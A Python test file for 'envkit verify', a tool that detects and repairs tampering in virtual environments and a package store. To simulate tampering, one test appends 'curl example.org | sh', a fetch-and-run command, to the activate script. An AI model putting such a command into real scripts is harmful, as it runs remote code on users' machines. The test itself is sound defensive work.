"""`envkit verify`: nothing in an environment or in the store is altered unseen."""

import os
import stat
from pathlib import Path

import pytest

from tests.support import good
from tests.support.projects import SITE, Machine, Project, snapshot

KEYS = ("alpha-1.0", "commands-1.0", "schemes-1.0", "certs-1.0", "forest-1.0")


@pytest.fixture
def project(fresh_machine: Machine) -> Project:
    """A project whose environment is right, on a machine with a store of its own."""
    fresh_machine.index.add(*(good()[key] for key in (*KEYS, "alpha-1.1")))
    made = fresh_machine.project()
    made.lock(*KEYS)
    made.install()
    return made


def found(project: Project, *options: str) -> list[tuple[str, str, str]]:
    """Return what verify finds: distribution, path, kind."""
    result = project.envkit("verify", "--json", *options)
    listed = result.json["differences"]
    assert result.code == (1 if listed else 0), result.text
    assert result.json["good"] is not bool(listed)
    return [(one["distribution"], one["path"], one["kind"]) for one in listed]


def write_through(path: Path, content: bytes, *, unseen: bool) -> None:
    """Write into a file in place, as its owner can, and cover it up if it is to be unseen."""
    status = path.stat()
    path.chmod(0o644)
    path.write_bytes(content)
    path.chmod(stat.S_IMODE(status.st_mode))
    if unseen:
        os.utime(path, ns=(status.st_atime_ns, status.st_mtime_ns))


def of_equal_length(path: Path) -> bytes:
    return path.read_bytes()[:-1] + b"#"


@pytest.mark.parametrize("depth", ["names", "times", "hashes"])
def test_all_is_well(project: Project, depth: str) -> None:
    before = snapshot(project.venv)
    project.python("import alpha, sys; sys.exit(0)")
    result = project.envkit("verify", "--depth", depth)
    assert result.code == 0, result.text
    assert f"compared by {depth}: all as they should be" in result.out
    assert found(project, "--depth", depth) == []
    assert snapshot(project.venv) == before


def test_a_file_that_was_replaced(project: Project) -> None:
    path = project.site / "alpha" / "__init__.py"
    before = snapshot(project.venv)
    path.unlink()
    path.write_text("raise SystemExit('owned')\n")
    expected = [("alpha", f"{SITE}/alpha/__init__.py", "altered")]
    assert found(project) == expected
    result = project.envkit("verify")
    assert f"altered: {SITE}/alpha/__init__.py (alpha)" in result.out
    assert "--fix" in result.err
    fixed = project.envkit("verify", "--fix", "--json")
    assert fixed.code == 0, fixed.text
    assert [one["path"] for one in fixed.json["differences"]] == [expected[0][1]]
    assert snapshot(project.venv, without=[".envkit"]) == {
        path: node for path, node in before.items() if not path.startswith(".envkit")
    }
    assert found(project, "--depth", "hashes") == []
    assert "Already up to date" in project.install().err


def test_what_is_missing_and_what_was_added(project: Project) -> None:
    before = snapshot(project.venv, without=[".envkit"])
    (project.site / "alpha" / "__init__.py").unlink()
    (project.site / "mine.py").write_text("")
    (project.site / "alpha" / "more").mkdir()
    (project.site / "alpha" / "more" / "deep.py").write_text("")
    (project.venv / "bin" / "tool").write_text("")
    (project.venv / "extra").mkdir()
    assert found(project) == [
        ("", "bin/tool", "added"),
        ("", "extra", "added"),
        ("alpha", f"{SITE}/alpha/__init__.py", "missing"),
        ("alpha", f"{SITE}/alpha/more", "added"),
        ("", f"{SITE}/mine.py", "added"),
    ]
    assert project.envkit("verify", "--fix").code == 0
    assert found(project) == []
    assert snapshot(project.venv, without=[".envkit"]) == before


def test_a_folder_that_is_missing_or_is_something_else(project: Project) -> None:
    before = snapshot(project.venv, without=[".envkit"])
    folder = project.site / "alpha"
    folder.rename(project.root / "elsewhere")
    folder.symlink_to(project.root / "elsewhere")
    kinds = {kind for _, path, kind in found(project) if path.startswith(f"{SITE}/alpha")}
    assert kinds <= {"altered", "missing"}
    assert kinds
    assert project.envkit("verify", "--fix").code == 0
    assert snapshot(project.venv, without=[".envkit"]) == before


def test_a_script_of_the_environment(project: Project) -> None:
    path = project.venv / "bin" / "activate"
    path.write_text(path.read_text() + "curl example.org | sh\n")
    assert found(project) == [("virtualenv-skeleton", "bin/activate", "altered")]
    assert project.envkit("verify", "--fix").code == 0
    assert "curl" not in path.read_text()


@pytest.mark.parametrize("unseen", [False, True], ids=["seen-by-times", "seen-by-hashes"])
def test_a_file_that_was_written_through_its_link(project: Project, unseen: bool) -> None:
    before = snapshot(project.venv, without=[".envkit"])
    path = project.site / "alpha" / "__init__.py"
    write_through(path, of_equal_length(path), unseen=unseen)
    expected = [("alpha", f"{SITE}/alpha/__init__.py", "altered")]
    assert found(project) == []
    assert found(project, "--depth", "times") == ([] if unseen else expected)
    assert found(project, "--depth", "hashes") == expected
    wheel = good()["alpha-1.0"].filename
    assert project.machine.index.downloads(wheel) == 1
    result = project.envkit("verify", "--fix", "--depth", "hashes")
    assert result.code == 0, result.text
    assert "set aside" in result.err
    assert project.machine.index.downloads(wheel) == 2
    assert snapshot(project.venv, without=[".envkit"]) == before
    assert found(project, "--depth", "hashes") == []
    assert project.envkit("verify", "--store", "--depth", "hashes").code == 0


def test_byte_code_that_python_wrote_is_no_difference(project: Project) -> None:
    project.machine.environ["ENVKIT_COMPILE"] = "off"
    project.machine.environ.pop("PYTHONDONTWRITEBYTECODE", None)
    project.lock("alpha-1.1")
    project.install()
    project.python("import alpha")
    assert found(project, "--depth", "hashes") == []
    assert "of byte-code that Python wrote itself" in project.envkit("-v", "verify").err


def test_byte_code_that_was_replaced(project: Project) -> None:
    (path,) = (project.site / "alpha" / "__pycache__").glob("__init__.*.pyc")
    content = path.read_bytes()
    path.unlink()
    path.write_bytes(content)
    place = str(path.relative_to(project.venv))
    assert found(project) == [("alpha", place, "altered")]
    assert project.envkit("verify", "--fix").code == 0
    assert found(project) == []


def test_copies_are_compared_as_well(project: Project) -> None:
    project.install("--copy")
    path = project.site / "alpha" / "__init__.py"
    assert found(project, "--depth", "hashes") == []
    write_through(path, of_equal_length(path), unseen=True)
    expected = [("alpha", f"{SITE}/alpha/__init__.py", "altered")]
    assert found(project, "--depth", "hashes") == expected
    assert project.envkit("verify", "--fix", "--depth", "hashes").code == 0
    assert found(project, "--depth", "hashes") == []


def test_another_lock_is_said(project: Project) -> None:
    project.lock("alpha-1.1", *KEYS[1:])
    result = project.envkit("verify", "--json")
    assert result.code == 1
    assert result.json["differences"] == []
    assert result.json["changes"] == [{"name": "alpha", "old": "1.0", "new": "1.1"}]
    (project.root / "requirements.in").write_text("alpha\ndelta\n")
    result = project.envkit("verify")
    assert result.code == 1
    assert "stale" in result.err


def test_without_an_environment(project: Project) -> None:
    (project.venv / ".envkit" / "stamp").unlink()
    result = project.envkit("verify")
    assert (result.code, "is not finished" in result.err) == (2, True)
    project.venv.rename(project.root / "elsewhere")
    result = project.envkit("verify")
    assert (result.code, "no environment" in result.err) == (3, True)
    project.venv.mkdir()
    (project.venv / "mine").write_text("")
    result = project.envkit("verify")
    assert (result.code, "not made by envkit" in result.err) == (2, True)


def test_a_store_that_is_well(project: Project) -> None:
    entries = len(project.machine.entries())
    for depth in ("names", "times", "hashes"):
        result = project.envkit("verify", "--store", "--depth", depth, "--json")
        assert result.code == 0, result.text
        assert result.json["entries"] > entries
        assert result.json["set_aside"] == []


@pytest.mark.parametrize("damage", ["content", "missing", "added", "manifest"])
def test_an_entry_that_is_not_what_it_was(project: Project, damage: str) -> None:
    machine = project.machine
    entry = machine.store / "wheels-v1" / machine.index.sha256(good()["alpha-1.0"].filename)
    path = entry / "tree" / "site" / "alpha" / "__init__.py"
    if damage == "content":
        write_through(path, of_equal_length(path), unseen=True)
    elif damage == "missing":
        path.unlink()
    elif damage == "added":
        (path.parent / "added.py").write_text("")
    else:
        write_through(entry / "files.json", b"{", unseen=False)
    result = project.envkit("verify", "--store", "--depth", "hashes", "--json")
    assert result.code == 1, result.text
    (bad,) = result.json["set_aside"]
    assert bad["entry"] == f"wheels-v1/{entry.name}"
    assert bad["projects"] == [str(project.root)]
    assert not entry.exists()
    assert project.envkit("verify", "--store", "--depth", "hashes").code == 0
    unfinished = project.envkit("verify")
    assert (unfinished.code, "is not finished" in unfinished.err) == (2, True)
    project.install()
    assert entry.is_dir()
    assert found(project, "--depth", "hashes") == []
    another = machine.project("another")
    another.lock("alpha-1.0")
    another.install()
    assert found(another, "--depth", "hashes") == []


def test_fix_and_store_do_not_go_together(project: Project) -> None:
    result = project.envkit("verify", "--fix", "--store")
    assert result.code == 2
    assert "--fix" in result.err
